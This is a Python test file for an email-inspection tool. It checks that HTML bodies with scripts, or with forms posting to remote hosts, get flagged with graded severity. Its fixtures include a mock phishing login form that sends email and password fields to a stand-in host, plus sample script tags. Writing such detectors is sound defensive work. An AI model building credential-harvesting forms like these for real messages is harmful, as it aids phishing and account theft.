"""Content risks in HTML bodies: forms posting to a remote host, and scripts."""

from __future__ import annotations

from email.message import EmailMessage

from inspector.analysis import analyse
from inspector.analysis.traps.content import content_findings
from inspector.model import Category, Finding, Severity
from inspector.parsing import load_bytes


def _findings(body: str) -> dict[str, list[Finding]]:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@s.example", "b@v.example", "content"
    msg.set_content(body, subtype="html")
    out: dict[str, list[Finding]] = {}
    for finding in content_findings(load_bytes(msg.as_bytes()), None):
        assert finding.category == Category.CONTENT
        out.setdefault(finding.code, []).append(finding)
    return out


def test_remote_form_with_a_password_field_is_medium() -> None:
    body = (
        '<base href="https://phish.example/kit/"><form action="post.php" method=post>'
        '<input name=email type=email><input name=pass TYPE="Password"><button>Sign in</button></form>'
    )
    (form,) = _findings(body)["FORM_REMOTE_ACTION"]
    assert form.severity == Severity.MEDIUM
    assert (form.url, form.host, form.vector) == ("https://phish.example/kit/post.php", "phish.example", "form[action]")
    assert form.evidence["password_field"] is True
    assert form.evidence["fields"] == ["email (email)", "pass (password)"]
    assert form.evidence["element"].startswith("<form ") and form.part == "1"
    assert "phish.example" in form.explanation and form.element_id.startswith("ei-ref-")


def test_remote_form_without_password_is_low_and_local_forms_are_not_reported() -> None:
    codes = _findings('<form action="https://survey.example/r"><input name=q></form><form action="#x"></form>')
    (form,) = codes["FORM_REMOTE_ACTION"]
    assert form.severity == Severity.LOW and form.evidence["password_field"] is False
    assert _findings('<form action="thanks.html"><input type=password></form><form></form>') == {}


def test_submit_button_formaction_counts_as_the_form_action() -> None:
    codes = _findings('<form><input type=password name=p><button formaction="https://b.example/s">Go</button></form>')
    (form,) = codes["FORM_REMOTE_ACTION"]
    assert form.host == "b.example" and form.vector == "button[formaction]" and form.severity == Severity.MEDIUM


def test_scripts_inline_and_remote_are_one_finding_per_body() -> None:
    body = (
        "<script>document.forms[0].submit()</script>"
        '<script src="https://js.example/a.js"></script><svg><script href="https://js.example/b.js"/></svg>'
        '<script type="application/ld+json">{"@type": "EmailMessage"}</script>'
    )
    (script,) = _findings(body)["SCRIPT_PRESENT"]
    assert script.severity == Severity.LOW
    assert script.evidence["count"] == 3  # the JSON-LD data block is not a script
    assert script.evidence["urls"] == ["https://js.example/a.js", "https://js.example/b.js"]
    assert script.host == "js.example" and script.url == "https://js.example/a.js"
    assert "do not run" in script.explanation and "removes" in script.explanation


def test_inline_only_script_and_data_blocks() -> None:
    (script,) = _findings("<p>hi</p><SCRIPT>alert(1)</SCRIPT>")["SCRIPT_PRESENT"]
    assert script.evidence["urls"] == [] and script.url is None
    assert script.evidence["element"].startswith("<script>alert(1)")
    assert _findings('<script type="application/ld+json">{}</script><p>no form here</p>') == {}


def test_scripts_in_srcdoc_are_found() -> None:
    codes = _findings('<iframe srcdoc="&lt;script src=https://js.example/in.js&gt;&lt;/script&gt;"></iframe>')
    assert codes["SCRIPT_PRESENT"][0].evidence["urls"] == ["https://js.example/in.js"]


def test_registered_and_json_ready() -> None:
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "a@s.example", "b@v.example", "content"
    msg.set_content('<form action="https://p.example/x"><input type=password></form>', subtype="html")
    report = analyse(load_bytes(msg.as_bytes()))
    record = next(f.to_dict() for f in report.findings if f.code == "FORM_REMOTE_ACTION")
    assert record["category"] == "content" and record["severity"] == "medium"
